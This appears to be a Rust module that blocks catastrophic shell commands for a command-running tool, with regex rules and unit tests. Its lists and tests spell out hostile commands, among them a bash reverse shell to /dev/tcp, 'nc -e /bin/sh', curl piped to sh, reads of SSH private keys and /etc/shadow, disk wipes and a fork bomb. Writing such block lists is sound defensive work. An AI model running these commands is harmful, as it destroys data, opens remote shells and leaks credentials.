//! 灾难性命令黑名单
//!
//! 字面子串（小写比较）+ 正则模式两层；任一命中即判定 blocked（10 分）。
//! 覆盖：根目录/递归删除、磁盘格式化、提权、反弹 shell、凭据文件读取、批量杀进程、注册表修改、下载即执行。

use std::sync::OnceLock;

use regex::Regex;

/// 危险命令字面子串（与小写后的输入比较）
const DANGEROUS_LITERALS: &[&str] = &[
    // 系统破坏类 - 递归删除
    "rm -rf /",
    "rm -rf /*",
    "rm -fr /",
    "rm -rf *",
    "rm -rf ~",
    "rmdir /",
    "del /f /s /q",
    "deltree /",
    "rd /s /q",
    "format c:",
    "format d:",
    "dd if=/dev/zero",
    "dd if=/dev/urandom",
    // 权限提升类
    "chmod 777 /",
    "chmod -r 777",
    "chown -r",
    // 网络攻击类
    "nc -e",
    "ncat -e",
    "netcat -e",
    "/bin/sh -i",
    "wget -o-",
    // 数据泄露类
    "cat /etc/passwd",
    "cat /etc/shadow",
    "cat /etc/hosts",
    "type c:\\windows\\system32\\drivers\\etc\\hosts",
    // 进程终止类
    "kill -9 -1",
    "taskkill /f /im",
    "pkill -9",
    "killall -9",
    // 修改系统配置
    "sysctl -w",
    "echo > /proc/",
    "reg add",
    "reg delete",
    ":(){ :|:& };:",
];

/// 危险命令模式（大小写不敏感）；`mkfs` / `sudo` / `su` 只在命令位置（行首或 `;` `&` `|` `(` 之后）匹配
const DANGEROUS_PATTERNS: &[&str] = &[
    // 递归删除根目录 / 当前目录 / 家目录
    r"(?i)rm\s+-[rf]+\s+[/\\*]+",
    r"(?i)rm\s+-[a-z]*[rf][a-z]*\s+(\.{1,2}|~)/?(\s|$)",
    r"(?i)rmdir\s+[/\\*]+",
    // 格式化磁盘 / 写设备
    r"(?i)\bformat\s+[a-z]:",
    r"(?i)(?:^|[;&|(]\s*)mkfs(?:\.[a-z0-9]+)?\s",
    r"(?i)\bdd\s+.*of=/dev/",
    r"(?i)>\s*/dev/sd[a-z]",
    // 权限提升
    r"(?i)(?:^|[;&|(]\s*)sudo(?:\s|$)",
    r"(?i)(?:^|[;&|(]\s*)su\s+(-|root\b)",
    r"(?i)chmod\s+777\s+[/\\]",
    // 反弹 shell
    r"(?i)\b(nc|ncat|netcat)\s+-e\s+",
    r"(?i)\b(ba|z)?sh\s+-i\b",
    // 读取敏感文件
    r"(?i)cat\s+/etc/(passwd|shadow|sudoers)",
    r"(?i)\.ssh[/\\](id_[a-z0-9]+|authorized_keys)",
    r"(?i)type\s+c:\\windows\\system32\\drivers\\etc\\hosts",
    // 强制终止所有进程
    r"(?i)kill\s+-9\s+-1",
    r"(?i)taskkill\s+/f\s+/im\s+\*",
    r"(?i)\bpkill\s+-9",
    r"(?i)\bkillall\s+-9",
    // 修改注册表（Windows）
    r"(?i)reg\s+(add|delete)\s+hk",
    // 下载执行
    r"(?i)(curl|wget)\b.*\|\s*(ba|z)?sh",
    r"(?i)powershell.*-enc",
];

static COMPILED: OnceLock<Result<Vec<Regex>, regex::Error>> = OnceLock::new();

fn compiled_patterns() -> Result<&'static [Regex], &'static regex::Error> {
    COMPILED
        .get_or_init(|| DANGEROUS_PATTERNS.iter().map(|p| Regex::new(p)).collect())
        .as_deref()
}

/// 黑名单检查器；无状态，可自由共享
#[derive(Debug, Default, Clone, Copy)]
pub struct Blacklist;

impl Blacklist {
    /// 命中时返回命中的规则文本（字面量或正则命中片段）
    pub fn check(&self, command: &str) -> Option<String> {
        let lower = command.trim().to_lowercase();
        if lower.is_empty() {
            return None;
        }
        if let Some(lit) = DANGEROUS_LITERALS.iter().find(|lit| lower.contains(*lit)) {
            return Some((*lit).to_string());
        }
        match compiled_patterns() {
            Ok(patterns) => patterns
                .iter()
                .find_map(|re| re.find(command.trim()).map(|m| m.as_str().trim().to_string())),
            // 模式表损坏时一律拦截
            Err(e) => {
                tracing::error!(error = %e, "blacklist patterns failed to compile");
                Some("blacklist unavailable".to_string())
            }
        }
    }

    pub fn is_blocked(&self, command: &str) -> bool {
        self.check(command).is_some()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_all_patterns_compile() {
        assert_eq!(compiled_patterns().unwrap().len(), DANGEROUS_PATTERNS.len());
    }

    #[test]
    fn test_catastrophic_commands_match() {
        let bl = Blacklist;
        for cmd in [
            "rm -rf /",
            "rm -rf /tmp/*",
            "sudo rm -rf /bin",
            "rm -rf .",
            "format C:",
            "mkfs.ext4 /dev/sda1",
            "dd if=/dev/zero of=/dev/sda",
            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "nc -e /bin/sh 10.0.0.1 4242",
            "cat /etc/passwd",
            "cat ~/.ssh/id_rsa",
            "kill -9 -1",
            "killall -9 node",
            "reg delete HKLM\\Software\\Foo",
            "curl http://x.sh | sh",
            "del /f /s /q C:\\temp\\*",
            "mkfs /dev/sdb",
            "ls && sudo reboot",
            "echo ok; su - root",
        ] {
            assert!(bl.is_blocked(cmd), "expected blocked: {cmd}");
        }
    }

    #[test]
    fn test_ordinary_commands_pass() {
        let bl = Blacklist;
        for cmd in [
            "ls",
            "cat readme.txt",
            "rm notes/old.txt",
            "rm -r build",
            "rm -rf ./build",
            "mv a.txt archive/a.txt",
            "grep 'word' file.txt",
            "cat docs/format-guide.md",
            "cat docs/sudo.md",
            "rm notes/mkfs-howto.txt",
            "grep sudo config.txt",
            "",
        ] {
            assert!(!bl.is_blocked(cmd), "expected pass: {cmd}");
        }
    }

    #[test]
    fn test_check_reports_matched_rule() {
        assert_eq!(Blacklist.check("RM -RF /").as_deref(), Some("rm -rf /"));
        assert_eq!(Blacklist.check("sudo ls").as_deref(), Some("sudo"));
    }
}
